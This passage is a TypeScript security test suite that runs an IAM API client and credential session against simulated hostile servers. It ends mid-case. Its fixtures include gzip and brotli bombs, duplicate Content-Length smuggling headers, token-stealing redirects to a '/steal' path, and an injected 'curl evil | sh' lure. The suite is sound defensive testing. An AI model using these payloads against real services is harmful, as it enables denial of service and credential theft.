/**
 * The real API client and session against a hostile IAM server and a hostile metadata service,
 * over real loopback HTTP: every case ends in a clear error (kind, gRPC code, message) or a
 * correct answer, within the attempts the retry policy allows, and nothing printed or kept holds
 * a secret. Attempts are counted, never timed: waits between attempts go to a recorder.
 */
import { after, before, describe } from "node:test";
import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import * as zlib from "node:zlib";
import { IamApiClient, MAX_RESPONSE_BODY_BYTES } from "../../provider/apiClient";
import { ManualClock } from "../../provider/clock";
import { CredentialsError, IamApiError } from "../../provider/errors";
import { MAX_SERVER_MESSAGE_CHARS } from "../../provider/redaction";
import { DEFAULT_RETRY_POLICY } from "../../provider/retry";
import { type IamSession, createIamSession } from "../../provider/session";
import {
  HostileServer,
  type Responder,
  responseHead,
  send,
  sendJson,
  stream,
  trickle,
} from "./hostileServer";
import {
  assertNoSecrets,
  errorTexts,
  googleAccessToken,
  hostileCase,
  oauthToken,
  rejectionOf,
  secret,
  yandexIamToken,
} from "./support";

/** The clock every client here runs on: a fixed instant, so "in the past" means the same every run. */
const NOW = "2026-01-01T00:00:00Z";
/** An expiry well after {@link NOW}, with 9 fraction digits as the API may send. */
const LATER = "2026-01-01T12:00:00.123456789Z";
const SERVICE_ACCOUNT_ID = "ajehostile0000000001";
const FIFTY_MB = 50 * 1024 * 1024;
const RETRY = { maxAttempts: 3, baseDelayMs: 1, maxDelayMs: 5 } as const;
/** Per-attempt timeout of the cases (low: a hostile server must not hold a run for long). */
const TIMEOUT_MS = 2_000;
/** Per-attempt timeout of the cases that are meant to time out. */
const SHORT_TIMEOUT_MS = 1_000;

/** A line break or the escape character that starts an ANSI sequence. */
const LINE_BREAK_OR_ESCAPE = new RegExp(String.raw`[\r\n\u001b\u2028\u2029]`);

/** The group of the hostile IAM server cases, in the final count. */
export const CLIENT_GROUP = "hostile IAM server (client)";
/** The group of the hostile metadata service cases, in the final count. */
export const METADATA_GROUP = "hostile metadata service (session)";

/** What one client under test recorded. */
interface Probe {
  client: IamApiClient;
  waits: number[];
  logs: string[];
}

/** Everything a case asserts about a failed call. */
interface Expected {
  kind: IamApiError["kind"];
  grpcCodeName: string;
  attempts: number;
  httpStatus?: number;
  message: RegExp[];
}

/** Asserts what a failed call must look like: a one-line IamApiError of the expected kind, bounded, clean. */
function assertIamError(
  label: string,
  error: unknown,
  probe: Probe,
  expected: Expected,
  secrets: readonly string[],
): IamApiError {
  assert.ok(error instanceof IamApiError, `${label}: an IamApiError, got ${String(error)}`);
  assert.equal(error.kind, expected.kind, `${label}: kind`);
  assert.equal(error.grpcCodeName, expected.grpcCodeName, `${label}: gRPC code`);
  assert.equal(error.attempts, expected.attempts, `${label}: attempts`);
  assert.equal(probe.waits.length, expected.attempts - 1, `${label}: one wait between attempts`);
  if ("httpStatus" in expected) assert.equal(error.httpStatus, expected.httpStatus, `${label}: HTTP status`);
  for (const pattern of expected.message) assert.match(error.message, pattern, `${label}: message`);
  assert.doesNotMatch(
    error.message,
    LINE_BREAK_OR_ESCAPE,
    `${label}: the message is one line without escapes`,
  );
  assertNoSecrets(label, [...errorTexts(error), ...probe.logs], secrets);
  return error;
}

function freshDir(prefix: string): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), prefix));
}

/** A valid token answer, as the API sends it. */
function tokenAnswer(iamToken: string, expiresAt = LATER): string {
  return JSON.stringify({ iamToken, expiresAt });
}

/** The hostile IAM server cases, through {@link IamApiClient}. */
export function hostileIamServerSuite(): void {
  describe("a hostile IAM server: clear, bounded errors that carry no secret", () => {
    let iam: HostileServer;
    /** Another host, where redirects point: it must never hear from the client. */
    let elsewhere: HostileServer;
    let callerToken: string;
    let gzipBomb: Buffer;

    before(async () => {
      iam = await HostileServer.start("127.0.0.1");
      elsewhere = await HostileServer.start("127.0.0.2");
      callerToken = yandexIamToken("the caller IAM token of the client cases");
      gzipBomb = zlib.gzipSync(Buffer.alloc(FIFTY_MB), { level: 9 });
    });
    after(async () => {
      await iam?.close();
      await elsewhere?.close();
    });

    function clientFor(
      responder: Responder,
      options: { timeoutMs?: number; maxAttempts?: number; baseUrl?: string } = {},
    ): Probe {
      iam.respondWith(responder);
      elsewhere.respondWith((_request, socket) => sendJson(socket, 200, { stolen: true }));
      const waits: number[] = [];
      const logs: string[] = [];
      const client = new IamApiClient({
        clock: new ManualClock(NOW),
        baseUrl: options.baseUrl ?? iam.baseUrl,
        timeoutMs: options.timeoutMs ?? TIMEOUT_MS,
        retryPolicy: { ...RETRY, maxAttempts: options.maxAttempts ?? RETRY.maxAttempts },
        sleep: async (ms) => {
          waits.push(ms);
        },
        logger: (line) => logs.push(line),
      });
      return { client, waits, logs };
    }

    /** Calls createForServiceAccount with the caller token and waits until the server is idle. */
    async function failedCall(probe: Probe): Promise<unknown> {
      const error = await rejectionOf(probe.client.createForServiceAccount(callerToken, SERVICE_ACCOUNT_ID));
      await iam.idle();
      return error;
    }

    hostileCase(
      CLIENT_GROUP,
      "baseline: a well-formed answer (9 fraction digits, unknown fields) is used",
      async () => {
        const issued = yandexIamToken("an issued token (baseline)");
        const probe = clientFor((_request, socket) =>
          sendJson(socket, 200, { iamToken: issued, expiresAt: LATER, somethingNew: { nested: [1, 2] } }),
        );
        const token = await probe.client.createForServiceAccount(callerToken, SERVICE_ACCOUNT_ID);
        assert.equal(token.iamToken, issued);
        assert.equal(token.expiresAt, LATER);
        assert.equal(iam.requests.length, 1);
        assert.equal(iam.requests[0].headers.authorization, `Bearer ${callerToken}`);
        assert.deepEqual(JSON.parse(iam.requests[0].body), { serviceAccountId: SERVICE_ACCOUNT_ID });
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "a 200 body of 50 MB: refused as oversized, not retried, not read to the end",
      async () => {
        const issued = yandexIamToken("an issued token (50 MB body)");
        const prefix = Buffer.from(`{"iamToken":"${issued}","expiresAt":"${LATER}","padding":"`);
        const probe = clientFor((_request, socket) =>
          stream(
            socket,
            Buffer.concat([
              responseHead(200, { "Content-Type": "application/json", "Content-Length": FIFTY_MB }),
              prefix,
            ]),
            FIFTY_MB - prefix.length,
          ),
        );
        const error = await failedCall(probe);
        assertIamError(
          "50 MB body",
          error,
          probe,
          {
            kind: "oversized",
            grpcCodeName: "RESOURCE_EXHAUSTED",
            attempts: 1,
            message: [
              new RegExp(`the answer is larger than ${MAX_RESPONSE_BODY_BYTES} bytes`),
              /larger than any IAM API answer; it was not read to the end/,
              /retrying will not help/,
            ],
          },
          [callerToken, issued],
        );
        assert.equal(iam.requests.length, 1);
        assert.ok(iam.bytesSent < FIFTY_MB, `the client hung up early (${iam.bytesSent} bytes sent)`);
      },
    );

    for (const status of [200, 503]) {
      hostileCase(
        CLIENT_GROUP,
        `a gzip bomb on HTTP ${status} (${(50).toString()} MB of zeros in a small gzip body): oversized, not retried`,
        async () => {
          assert.ok(gzipBomb.length < 100 * 1024, `the bomb is small (${gzipBomb.length} bytes)`);
          const probe = clientFor((_request, socket) =>
            send(socket, status, gzipBomb, {
              "Content-Type": "application/json",
              "Content-Encoding": "gzip",
            }),
          );
          const error = await failedCall(probe);
          assertIamError(
            `gzip bomb ${status}`,
            error,
            probe,
            {
              kind: "oversized",
              grpcCodeName: "RESOURCE_EXHAUSTED",
              attempts: 1,
              message: [new RegExp(`larger than ${MAX_RESPONSE_BODY_BYTES} bytes`)],
            },
            [callerToken],
          );
          assert.equal(iam.requests.length, 1);
        },
      );
    }

    hostileCase(CLIENT_GROUP, "a brotli bomb on HTTP 200: oversized, not retried", async () => {
      const bomb = zlib.brotliCompressSync(Buffer.alloc(FIFTY_MB), {
        params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 5 },
      });
      const probe = clientFor((_request, socket) =>
        send(socket, 200, bomb, { "Content-Type": "application/json", "Content-Encoding": "br" }),
      );
      assertIamError(
        "brotli bomb",
        await failedCall(probe),
        probe,
        { kind: "oversized", grpcCodeName: "RESOURCE_EXHAUSTED", attempts: 1, message: [/larger than/] },
        [callerToken],
      );
    });

    hostileCase(
      CLIENT_GROUP,
      "Content-Length says 10 and the server sends a whole answer: the extra bytes are refused, malformed, 1 attempt",
      async () => {
        const issued = yandexIamToken("an issued token (short Content-Length)");
        const probe = clientFor((_request, socket) =>
          socket.end(
            Buffer.concat([
              responseHead(200, { "Content-Type": "application/json", "Content-Length": 10 }),
              Buffer.from(tokenAnswer(issued)),
            ]),
          ),
        );
        assertIamError(
          "Content-Length too short",
          await failedCall(probe),
          probe,
          {
            kind: "malformed",
            grpcCodeName: "INTERNAL",
            attempts: 1,
            httpStatus: 200,
            // Node's HTTP parser refuses the bytes after the declared length ("Data after
            // Connection: close"); node-fetch then hands over an empty body, or the 10 bytes.
            message: [
              /malformed response \(HTTP 200\): (the body is not JSON|iamToken is missing or empty)/,
              /did not have the documented shape/,
            ],
          },
          [callerToken, issued],
        );
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "Content-Length says 1000, 10 bytes arrive, the connection closes: a network error, retried within the policy",
      async () => {
        const probe = clientFor((_request, socket) =>
          socket.end(
            Buffer.concat([
              responseHead(200, { "Content-Type": "application/json", "Content-Length": 1000 }),
              Buffer.from('{"iamToken'),
            ]),
          ),
        );
        assertIamError(
          "Content-Length too long, closed",
          await failedCall(probe),
          probe,
          {
            kind: "network",
            grpcCodeName: "UNAVAILABLE",
            attempts: RETRY.maxAttempts,
            message: [/Premature close|aborted|socket hang up|ECONNRESET/i],
          },
          [callerToken],
        );
        assert.equal(iam.connections, RETRY.maxAttempts);
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "Content-Length says 1000, 10 bytes arrive, the connection stays open: a timeout per attempt",
      async () => {
        const probe = clientFor(
          (_request, socket) =>
            socket.write(
              Buffer.concat([
                responseHead(200, { "Content-Type": "application/json", "Content-Length": 1000 }),
                Buffer.from('{"iamToken'),
              ]),
            ),
          { timeoutMs: SHORT_TIMEOUT_MS, maxAttempts: 2 },
        );
        assertIamError(
          "Content-Length too long, stalled",
          await failedCall(probe),
          probe,
          {
            kind: "timeout",
            grpcCodeName: "DEADLINE_EXCEEDED",
            attempts: 2,
            message: [new RegExp(`no complete answer within ${SHORT_TIMEOUT_MS} ms`)],
          },
          [callerToken],
        );
        assert.equal(iam.connections, 2);
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "two different Content-Length headers (a smuggling classic): refused by the parser, a network error",
      async () => {
        const probe = clientFor((_request, socket) =>
          socket.end(
            Buffer.concat([
              responseHead(200, {
                "Content-Type": "application/json",
                "Content-Length": 2,
                "content-length": 40,
              }),
              Buffer.from("{}"),
            ]),
          ),
        );
        assertIamError(
          "duplicate Content-Length",
          await failedCall(probe),
          probe,
          {
            kind: "network",
            grpcCodeName: "UNAVAILABLE",
            attempts: RETRY.maxAttempts,
            message: [/Content-Length/i],
          },
          [callerToken],
        );
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "headers trickled byte by byte, slower than the timeout: a timeout, attempts bounded by the policy",
      async () => {
        const issued = yandexIamToken("an issued token (trickled headers)");
        const body = Buffer.from(tokenAnswer(issued));
        const whole = Buffer.concat([
          responseHead(200, { "Content-Type": "application/json", "Content-Length": body.length }),
          body,
        ]);
        // 100 ms a byte: the status line and headers alone take seconds, the timeout is 1 s.
        const probe = clientFor((_request, socket) => trickle(socket, whole, 100), {
          timeoutMs: SHORT_TIMEOUT_MS,
        });
        assertIamError(
          "trickled headers",
          await failedCall(probe),
          probe,
          {
            kind: "timeout",
            grpcCodeName: "DEADLINE_EXCEEDED",
            attempts: RETRY.maxAttempts,
            message: [new RegExp(`no complete answer within ${SHORT_TIMEOUT_MS} ms`)],
          },
          [callerToken, issued],
        );
        assert.equal(iam.connections, RETRY.maxAttempts, "one connection per attempt, no more");
        assert.ok(
          probe.logs.some((line) => /attempt 1\/3 failed with DEADLINE_EXCEEDED \(timeout\)/.test(line)),
          "each retry is logged",
        );
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "a body trickled byte by byte after prompt headers: a timeout, bounded",
      async () => {
        const issued = yandexIamToken("an issued token (trickled body)");
        const body = Buffer.from(tokenAnswer(issued));
        const probe = clientFor(
          (_request, socket) => {
            socket.write(
              responseHead(200, { "Content-Type": "application/json", "Content-Length": body.length }),
            );
            trickle(socket, body, 100);
          },
          { timeoutMs: SHORT_TIMEOUT_MS, maxAttempts: 2 },
        );
        assertIamError(
          "trickled body",
          await failedCall(probe),
          probe,
          {
            kind: "timeout",
            grpcCodeName: "DEADLINE_EXCEEDED",
            attempts: 2,
            message: [/no complete answer/],
          },
          [callerToken, issued],
        );
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "response headers of 100 KB: refused by the parser (a network error), retried within the policy",
      async () => {
        const probe = clientFor((_request, socket) =>
          socket.end(
            Buffer.concat([
              responseHead(200, { "X-Padding": "p".repeat(100 * 1024), "Content-Length": 2 }),
              Buffer.from("{}"),
            ]),
          ),
        );
        assertIamError(
          "100 KB headers",
          await failedCall(probe),
          probe,
          {
            kind: "network",
            grpcCodeName: "UNAVAILABLE",
            attempts: RETRY.maxAttempts,
            message: [/HPE_HEADER_OVERFLOW|Header overflow/i],
          },
          [callerToken],
        );
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "JSON nested 500 000 levels deep within the size limit: malformed, no crash, not retried",
      async () => {
        const probe = clientFor((_request, socket) =>
          send(socket, 200, "[".repeat(500_000) + "]".repeat(500_000), {
            "Content-Type": "application/json",
          }),
        );
        assertIamError(
          "deep JSON",
          await failedCall(probe),
          probe,
          {
            kind: "malformed",
            grpcCodeName: "INTERNAL",
            attempts: 1,
            message: [/malformed response \(HTTP 200\): (iamToken is missing or empty|the body is not JSON)/],
          },
          [callerToken],
        );
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "429 with a Retry-After of 10^20 seconds, default policy: each wait capped, the total within the budget",
      async () => {
        iam.respondWith((_request, socket) =>
          sendJson(socket, 429, { code: 8, message: "slow down" }, { "Retry-After": "1" + "0".repeat(20) }),
        );
        const clock = new ManualClock(NOW);
        const waits: number[] = [];
        const logs: string[] = [];
        const client = new IamApiClient({
          clock,
          baseUrl: iam.baseUrl,
          timeoutMs: TIMEOUT_MS,
          // The waits are recorded and move the clock instead of passing: the budget is real.
          sleep: async (ms) => {
            waits.push(ms);
            clock.advance({ milliseconds: ms });
          },
          logger: (line) => logs.push(line),
        });
        const error = await rejectionOf(client.createForServiceAccount(callerToken, SERVICE_ACCOUNT_ID));
        await iam.idle();
        assertIamError(
          "huge Retry-After",
          error,
          { client, waits, logs },
          {
            kind: "http",
            grpcCodeName: "RESOURCE_EXHAUSTED",
            attempts: 2,
            httpStatus: 429,
            message: [/slow down/],
          },
          [callerToken],
        );
        assert.deepEqual(waits, [DEFAULT_RETRY_POLICY.maxRetryAfterMs], "the wait is capped at 30 s");
        assert.ok(
          waits.reduce((a, b) => a + b, 0) < DEFAULT_RETRY_POLICY.maxTotalMs,
          "no wait crosses the 60 s budget",
        );
        assert.equal(iam.requests.length, 2);
      },
    );

    for (const status of [301, 302, 303, 307, 308]) {
      hostileCase(
        CLIENT_GROUP,
        `a ${status} redirect to another host: not followed, 1 attempt, the other host hears nothing`,
        async () => {
          const location = `${elsewhere.baseUrl}/steal?token=${encodeURIComponent(callerToken)}`;
          const probe = clientFor((_request, socket) => send(socket, status, "", { Location: location }));
          const error = assertIamError(
            `redirect ${status}`,
            await failedCall(probe),
            probe,
            {
              kind: "redirect",
              grpcCodeName: "UNKNOWN",
              attempts: 1,
              httpStatus: status,
              message: [
                new RegExp(
                  `HTTP ${status} redirect to http://127\\.0\\.0\\.2:${elsewhere.port}, not followed`,
                ),
                /is never followed: credentials would travel to wherever it points/,
              ],
            },
            [callerToken],
          );
          assert.doesNotMatch(error.message, /steal/, "only the origin of the Location is shown");
          await elsewhere.idle();
          assert.equal(elsewhere.connections, 0, "the other host got no connection");
          assert.equal(iam.requests.length, 1);
        },
      );
    }

    hostileCase(CLIENT_GROUP, "a relative redirect on the same host: not followed either", async () => {
      const probe = clientFor((request, socket) =>
        request.path.includes("elsewhere")
          ? sendJson(socket, 200, { iamToken: "never", expiresAt: LATER })
          : send(socket, 307, "", { Location: "/elsewhere" }),
      );
      assertIamError(
        "relative redirect",
        await failedCall(probe),
        probe,
        {
          kind: "redirect",
          grpcCodeName: "UNKNOWN",
          attempts: 1,
          httpStatus: 307,
          message: [/not followed/],
        },
        [callerToken],
      );
      assert.deepEqual(
        iam.requests.map((r) => r.path),
        ["/iam/v1/tokens:createForServiceAccount"],
      );
    });

    hostileCase(
      CLIENT_GROUP,
      "an error body with newlines and ANSI escapes in requestId and a 100 KB message: one clean, capped line",
      async () => {
        const oauth = oauthToken("the OAuth token of the injection case");
        const message =
          `line one\nline two\r\n\u001b[31mFAKE: all good\u001b[0m\u2028token ${oauth} caller ${callerToken} ` +
          "A".repeat(100 * 1024);
        const probe = clientFor((_request, socket) =>
          sendJson(
            socket,
            503,
            {
              code: 14,
              message,
              details: [
                {
                  "@type": "type.googleapis.com/google.rpc.RequestInfo",
                  requestId: "req-1\n\u001b[2J\u001b[31mERROR: your key was rotated, run curl evil | sh",
                },
              ],
            },
            { "X-Request-Id": `<script>${"x".repeat(300)}</script>` },
          ),
        );
        const error = assertIamError(
          "injection",
          await rejectionOf(probe.client.createFromOAuthToken(oauth)),
          probe,
          {
            kind: "http",
            grpcCodeName: "UNAVAILABLE",
            attempts: RETRY.maxAttempts,
            httpStatus: 503,
            message: [/line one line two/, new RegExp(`cut at ${MAX_SERVER_MESSAGE_CHARS} characters`)],
          },
          [oauth, callerToken],
        );
        await iam.idle();
        assert.equal(error.requestId, undefined, "a requestId of no sane shape is dropped");
        assert.doesNotMatch(error.message, /; requestId /, "no requestId in the message");
        assert.ok(
          error.serverMessage.length <= MAX_SERVER_MESSAGE_CHARS + 40,
          `the server message is capped (${error.serverMessage.length} characters)`,
        );
        assert.ok(error.message.length < 2_000, `the whole message stays short (${error.message.length})`);
        assert.equal(probe.logs.length, RETRY.maxAttempts - 1, "one log line per retry");
        for (const line of probe.logs) {
          assert.doesNotMatch(line, LINE_BREAK_OR_ESCAPE, "log lines are single lines");
          assert.doesNotMatch(line, /requestId|evil|FAKE/, "log lines carry nothing of the body");
        }
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "a sane requestId next to control characters in the message is kept",
      async () => {
        const probe = clientFor((_request, socket) =>
          sendJson(socket, 403, {
            code: 7,
            message: "Permission denied\n\u001b[1mto everything\u001b[0m",
            details: [
              { "@type": "type.googleapis.com/google.rpc.RequestInfo", requestId: "0f1e2d3c-aaaa-bbbb" },
            ],
          }),
        );
        const error = assertIamError(
          "sane requestId",
          await failedCall(probe),
          probe,
          {
            kind: "http",
            grpcCodeName: "PERMISSION_DENIED",
            attempts: 1,
            httpStatus: 403,
            message: [/requestId 0f1e2d3c-aaaa-bbbb/, /Permission denied {1,3}to everything/],
          },
          [callerToken],
        );
        assert.equal(error.requestId, "0f1e2d3c-aaaa-bbbb");
      },
    );

    hostileCase(CLIENT_GROUP, "HTML instead of JSON on 200: malformed, not retried", async () => {
      const probe = clientFor((_request, socket) =>
        send(socket, 200, "<!doctype html><html><body><h1>Welcome to the captive portal</h1></body></html>", {
          "Content-Type": "text/html",
        }),
      );
      assertIamError(
        "HTML 200",
        await failedCall(probe),
        probe,
        {
          kind: "malformed",
          grpcCodeName: "INTERNAL",
          attempts: 1,
          httpStatus: 200,
          message: [/the body is not JSON/, /may not be a Yandex Cloud IAM API/],
        },
        [callerToken],
      );
    });

    hostileCase(
      CLIENT_GROUP,
      "HTML on 502: UNAVAILABLE, retried, then fails with the attempts counted",
      async () => {
        const probe = clientFor((_request, socket) =>
          send(socket, 502, "<html><body><h1>502 Bad Gateway</h1><hr>nginx</body></html>", {
            "Content-Type": "text/html",
          }),
        );
        assertIamError(
          "HTML 502",
          await failedCall(probe),
          probe,
          {
            kind: "http",
            grpcCodeName: "UNAVAILABLE",
            attempts: RETRY.maxAttempts,
            httpStatus: 502,
            message: [/HTTP 502 without a google\.rpc\.Status body/, /3 attempts/],
          },
          [callerToken],
        );
        assert.equal(iam.requests.length, RETRY.maxAttempts);
      },
    );

    hostileCase(CLIENT_GROUP, "a 200 with an empty iamToken: malformed", async () => {
      const probe = clientFor((_request, socket) =>
        sendJson(socket, 200, { iamToken: "", expiresAt: LATER }),
      );
      assertIamError(
        "empty iamToken",
        await failedCall(probe),
        probe,
        {
          kind: "malformed",
          grpcCodeName: "INTERNAL",
          attempts: 1,
          message: [/iamToken is missing or empty/],
        },
        [callerToken],
      );
    });

    hostileCase(
      CLIENT_GROUP,
      "a 200 whose expiresAt is in the past: malformed, the token not shown",
      async () => {
        const issued = yandexIamToken("an issued token (expired on arrival)");
        const probe = clientFor((_request, socket) =>
          send(socket, 200, tokenAnswer(issued, "2025-12-31T23:59:59Z"), {
            "Content-Type": "application/json",
          }),
        );
        assertIamError(
          "expiresAt in the past",
          await failedCall(probe),
          probe,
          {
            kind: "malformed",
            grpcCodeName: "INTERNAL",
            attempts: 1,
            message: [
              /expiresAt 2025-12-31T23:59:59Z is not in the future \(now 2026-01-01T00:00:00Z\)/,
              /the token arrived expired; check this machine's clock/,
            ],
          },
          [callerToken, issued],
        );
      },
    );

    hostileCase(
      CLIENT_GROUP,
      "a 200 whose expiresAt is not an instant: malformed, the value not echoed",
      async () => {
        const issued = yandexIamToken("an issued token (unparseable expiry)");
        const probe = clientFor((_request, socket) =>
          send(socket, 200, tokenAnswer(issued, "next tuesday, \u001b[31mpromise"), {
            "Content-Type": "application/json",
          }),
        );
        const error = assertIamError(
          "unparseable expiresAt",
          await failedCall(probe),
          probe,
          {
            kind: "malformed",
            grpcCodeName: "INTERNAL",
            attempts: 1,
            message: [/expiresAt is not an RFC 3339 instant/],
          },
          [callerToken, issued],
        );
        assert.doesNotMatch(error.message, /tuesday/);
      },
    );

    for (const host of ["something.localhost", "localhost.example.com", "127.0.0.1.nip.io"]) {
      hostileCase(
        CLIENT_GROUP,
        `plain http to ${host}: refused by validation, before any connection`,
        async () => {
          const url = `http://${host}:${iam.port}`;
          iam.respondWith((_request, socket) =>
            sendJson(socket, 200, { iamToken: "never", expiresAt: LATER }),
          );
          assert.throws(
            () => new IamApiClient({ clock: new ManualClock(NOW), baseUrl: url }),
            (error: unknown) =>
              error instanceof CredentialsError &&
              /uses plain http:\/\/, which is accepted only for loopback hosts \(127\.0\.0\.0\/8, ::1, localhost\)/.test(
                error.message,
              ),
          );
          const logs: string[] = [];
          const session = createIamSession({
            stackConfig: {},
            env: { YC_TOKEN: callerToken, YC_IAM_ENDPOINT: url },
            homeDir: freshDir("pyit-sec-home-"),
            clock: new ManualClock(NOW),
            logger: (line) => logs.push(line),
          });
          const error = await rejectionOf(session.createTokenForServiceAccount(SERVICE_ACCOUNT_ID));
          assert.ok(error instanceof CredentialsError, String(error));
          assert.match(error.message, /YC_IAM_ENDPOINT http:\/\/[a-z0-9.]+:\d+ uses plain http:\/\//);
          assertNoSecrets(`plain http ${host}`, [...errorTexts(error), ...logs], [callerToken]);
          assert.equal(iam.connections, 0, "nothing was sent anywhere");
        },
      );
    }

    hostileCase(CLIENT_GROUP, "plain http to localhost (resolving to loopback) is used", async () => {
      const issued = yandexIamToken("an issued token (localhost)");
      const probe = clientFor((_request, socket) => send(socket, 200, tokenAnswer(issued)), {
        baseUrl: `http://localhost:${iam.port}`,
      });
      const token = await probe.client.createForServiceAccount(callerToken, SERVICE_ACCOUNT_ID);
      assert.equal(token.iamToken, issued);
      assert.equal(iam.requests.length, 1);
    });
  });
}

/** The metadata fallback against a hostile metadata service, through {@link createIamSession}. */
export function hostileMetadataSuite(): void {
  describe("a hostile metadata service: another cloud's token is never sent to Yandex", () => {
    let metadata: HostileServer;
    let iam: HostileServer;
    let elsewhere: HostileServer;

    before(async () => {
      metadata = await HostileServer.start("127.0.0.1");
      iam = await HostileServer.start("127.0.0.1");
      elsewhere = await HostileServer.start("127.0.0.2");
    });
    after(async () => {
      await metadata?.close();
      await iam?.close();
      await elsewhere?.close();
    });

    interface SessionProbe {
      session: IamSession;
      logs: string[];
      waits: number[];
    }

    /**
     * A session with nothing configured but the IAM endpoint (the fake, to count what reaches it)
     * and the metadata address: an empty HOME, no token, no key.
     */
    function sessionWith(
      metadataResponder: Responder,
      options: { homeDir?: string; issued?: string; probeTimeoutMs?: number } = {},
    ): SessionProbe {
      metadata.respondWith(metadataResponder);
      iam.respondWith((_request, socket) =>
        sendJson(socket, 200, { iamToken: options.issued ?? "t1.unused", expiresAt: LATER }),
      );
      elsewhere.respondWith((_request, socket) => sendJson(socket, 200, {}));
      const logs: string[] = [];
      const waits: number[] = [];
      const session = createIamSession({
        stackConfig: {},
        env: { YC_METADATA_ADDR: `127.0.0.1:${metadata.port}`, YC_IAM_ENDPOINT: iam.baseUrl },
        homeDir: options.homeDir ?? freshDir("pyit-sec-home-"),
        clock: new ManualClock(NOW),
        logger: (line) => logs.push(line),
        requestTimeoutMs: TIMEOUT_MS,
        metadataProbeTimeoutMs: options.probeTimeoutMs ?? TIMEOUT_MS,
        retryPolicy: RETRY,
        sleep: async (ms) => {
          waits.push(ms);
        },
      });
      return { session, logs, waits };
    }

    const metadataToken =
      (token: string): Responder =>
      (_request, socket) =>
        sendJson(socket, 200, { access_token: token, expires_in: 3599, token_type: "Bearer" });

    hostileCase(
      METADATA_GROUP,
      "a Google-shaped token (ya29.…) from the implicit fallback: no credentials found, never sent, never printed",
      async () => {
        const google = googleAccessToken("a Google Cloud access token from the metadata service");
        const probe = sessionWith(metadataToken(google));
        for (const attempt of [1, 2]) {
          const error = await rejectionOf(probe.session.createTokenForServiceAccount(SERVICE_ACCOUNT_ID));
          assert.ok(error instanceof CredentialsError, `attempt ${attempt}: ${String(error)}`);
          assert.match(error.message, /^No Yandex Cloud credentials found\. Tried, in order: /);
          assert.match(
            error.message,
            new RegExp(
              `instance metadata service at http://127\\.0\\.0\\.1:${metadata.port} \\(YC_METADATA_ADDR\\): answered with a token that does not have the shape of a Yandex Cloud IAM token`,
            ),
          );
          assert.match(error.tried.at(-1) ?? "", /it was not used/);
          assert.ok(
            error.tried.some((t) => /environment YC_TOKEN \/ YC_SERVICE_ACCOUNT_KEY_FILE: not set/.test(t)),
            "the places tried are listed",
          );
          assertNoSecrets("Google-shaped metadata token", [...errorTexts(error), ...probe.logs], [google]);
        }
        assert.equal(metadata.requests.length, 2);
        assert.equal(metadata.requests[0].headers["metadata-flavor"], "Google");
        assert.equal(iam.connections, 0, "the IAM endpoint never heard of the token");
      },
    );

    for (const [label, makeToken] of [
      ["a Yandex-shaped token (t1.<b64url>.<86>)", () => yandexIamToken("a Yandex VM token (t1 form)")],
      [
        "a Yandex token of the older documented form (CggVAgAAA…)",
        () => secret("a Yandex VM token (old form)", `CggVAgAAAA${"q".repeat(20)}AbCdEf_-${"Z".repeat(60)}`),
      ],
    ] as const) {
      hostileCase(METADATA_GROUP, `${label} from the implicit fallback is used as the caller`, async () => {
        const vmToken = makeToken();
        const issued = yandexIamToken("an issued token (metadata caller)");
        const probe = sessionWith(metadataToken(vmToken), { issued });
        const token = await probe.session.createTokenForServiceAccount(SERVICE_ACCOUNT_ID);
        assert.equal(token.iamToken, issued);
        assert.equal(iam.requests.length, 1);
        assert.equal(iam.requests[0].headers.authorization, `Bearer ${vmToken}`);
        assertNoSecrets(label, probe.logs, [vmToken, issued]);
      });
    }

    hostileCase(
      METADATA_GROUP,
      "an explicit yc profile instance-service-account: true keeps using the metadata token whatever its shape",
      async () => {
        const home = freshDir("pyit-sec-home-");
        fs.mkdirSync(path.join(home, ".config", "yandex-cloud"), { recursive: true });
        fs.writeFileSync(
          path.join(home, ".config", "yandex-cloud", "config.yaml"),
          "current: vm\nprofiles:\n  vm:\n    instance-service-account: true\n",
        );
        const opaque = googleAccessToken("a metadata token of an unknown shape (explicit profile)");
        const issued = yandexIamToken("an issued token (explicit profile)");
        const probe = sessionWith(metadataToken(opaque), { homeDir: home, issued });
        const token = await probe.session.createTokenForServiceAccount(SERVICE_ACCOUNT_ID);
        assert.equal(token.iamToken, issued);
        assert.equal(iam.requests[0].headers.authorization, `Bearer ${opaque}`);
        assertNoSecrets("explicit profile", probe.logs, [opaque, issued]);
      },
    );

    for (const [status, code, advice] of [
      [404, "NOT_FOUND", /no service account is attached to this VM/],
      [400, "INVALID_ARGUMENT", /token access through the metadata service is disabled for this VM/],
    ] as const) {
      hostileCase(
        METADATA_GROUP,
        `metadata ${status}: ${code} with the advice for it, not retried`,
        async () => {
          const probe = sessionWith((_request, socket) => send(socket, status, "not here\n", {}));
          const error = await rejectionOf(probe.session.createTokenForServiceAccount(SERVICE_ACCOUNT_ID));
          assert.ok(error instanceof IamApiError, String(error));
          assert.equal(error.operation, "metadataToken");
          assert.equal(error.grpcCodeName, code);
          assert.equal(error.attempts, 1);
          assert.match(error.message, advice);
          assertNoSecrets(`metadata ${status}`, [...errorTexts(error), ...probe.logs], []);
          assert.equal(iam.connections, 0);
        },
      );
    }

    hostileCase(METADATA_GROUP, "a gzip bomb from the metadata service: oversized, 1 attempt", async () => {
      const bomb = zlib.gzipSync(Buffer.alloc(FIFTY_MB));
      const probe = sessionWith((_request, socket) =>
        send(socket, 200, bomb, { "Content-Type": "application/json", "Content-Encoding": "gzip" }),
      );
      const error = await rejectionOf(probe.session.createTokenForServiceAccount(SERVICE_ACCOUNT_ID));
      assert.ok(error instanceof IamApiError, String(error));
      assert.equal(error.kind, "oversized");
      assert.equal(error.operation, "metadataToken");
      assert.equal(error.attempts, 1);
      assert.equal(iam.connections, 0);
    });

    hostileCase(
      METADATA_GROUP,
      "a metadata service that never answers: no credentials found, 1 attempt",
      async () => {
